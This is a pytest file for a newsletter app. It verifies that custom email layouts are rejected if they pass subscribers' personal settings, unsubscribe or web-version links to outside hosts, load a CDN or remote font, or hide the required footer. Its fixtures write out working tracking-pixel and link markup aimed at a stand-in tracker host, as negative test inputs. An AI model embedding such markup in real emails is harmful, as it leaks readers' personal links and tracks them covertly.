"""A custom layout cannot hand a reader's personal links to anyone else, nor make
her mail program fetch anything from a third party (the privacy notice says opens
are not tracked and nothing comes from a CDN); and the footer every mail must have
is there to see, not tucked into a comment or a hidden span. The save refuses such a
layout with a German message and keeps what was typed; a layout stored before
these checks is not used for mails."""

import pytest
from sqlalchemy import select

from core.db import db, utcnow
from core.models import Region, Role
from newsletter.campaigns.layouts import STARTER
from tests import factories
from tests.fixtures.smtp import html_of
from tests.privacy.person import send_due
from tests.security.test_layout_sandbox import save_layout, store_layout_directly

FOOTER = STARTER[STARTER.index("{{ content }}") :]


def with_extra(markup: str) -> str:
    return STARTER.replace("{{ content }}", "{{ content }}\n" + markup)


LEAKS = {
    "pixel with the settings link": (
        "<mj-section><mj-column><mj-raw>"
        '<img src="https://tracker.example/p.gif?p={{ preferences_url }}">'
        "</mj-raw></mj-column></mj-section>"
    ),
    "image with the unsubscribe link": (
        "<mj-section><mj-column>"
        '<mj-image src="https://tracker.example/i.png?u={{ unsubscribe_url }}" />'
        "</mj-column></mj-section>"
    ),
    "link passing on the web version": (
        "<mj-section><mj-column><mj-text>"
        '<a href="https://tracker.example/go?w={{ web_url }}">Mehr</a>'
        "</mj-text></mj-column></mj-section>"
    ),
    "a CDN picture": (
        "<mj-section><mj-column>"
        '<mj-image src="https://cdn.example/logo.png" alt="Logo" />'
        "</mj-column></mj-section>"
    ),
}
CSS_IMPORT = STARTER.replace(
    "<mj-attributes>",
    "<mj-style>@import url(https://fonts.example/font.css);</mj-style>\n"
    "    <mj-attributes>",
)
HIDDEN_FOOTERS = {
    "unsubscribe link in a comment": STARTER.replace(
        '<a href="{{ unsubscribe_url }}">Abmelden</a>',
        "<!-- {{ unsubscribe_url }} -->",
    ),
    "imprint in a hidden span": STARTER.replace(
        "{{ region.imprint }}<br>",
        '<span style="display:none">{{ region.imprint }}</span><br>',
    ),
}


def stored(app) -> str | None:
    with app.app_context():
        return db.session.scalar(
            select(Region.custom_layout).where(Region.slug == "dortmund")
        )


@pytest.mark.parametrize(
    "layout",
    [*(with_extra(m) for m in LEAKS.values()), CSS_IMPORT],
    ids=[*LEAKS, "css import"],
)
def test_a_layout_that_sends_anything_to_a_third_party_is_not_saved(
    app, client, login_as, layout
):
    login_as(Role.MANAGER, "dortmund")
    response = save_layout(client, layout)
    page = response.get_data(as_text=True)
    assert "Nicht gespeichert" in page
    assert "Dritte" in page or "fremde" in page
    # What was typed stays in the editor, to be corrected.
    assert "tracker.example" in page or ".example/" in page
    assert stored(app) is None


@pytest.mark.parametrize("name", HIDDEN_FOOTERS)
def test_a_footer_hidden_from_the_reader_is_not_saved(app, client, login_as, name):
    login_as(Role.MANAGER, "dortmund")
    page = save_layout(client, HIDDEN_FOOTERS[name]).get_data(as_text=True)
    assert "Nicht gespeichert" in page
    assert "sichtbar" in page
    assert stored(app) is None


def test_the_starter_layout_is_still_saved(app, client, login_as):
    login_as(Role.MANAGER, "dortmund")
    save_layout(client, STARTER)
    assert stored(app) == STARTER


def test_a_leaking_layout_stored_earlier_is_not_used_for_the_real_mail(
    app, smtp_server
):
    store_layout_directly(app, with_extra(LEAKS["pixel with the settings link"]))
    with app.app_context():
        factories.subscriber(db.session, email="lea@example.org", region="dortmund")
        campaign = factories.campaign(db.session, region="dortmund")
        campaign.status = "scheduled"
        campaign.scheduled_at = utcnow()
        db.session.commit()
    send_due(app)
    mail = smtp_server.to("lea@example.org")[-1]
    html = html_of(mail)
    assert "tracker.example" not in html
    assert "/einstellungen/" in html
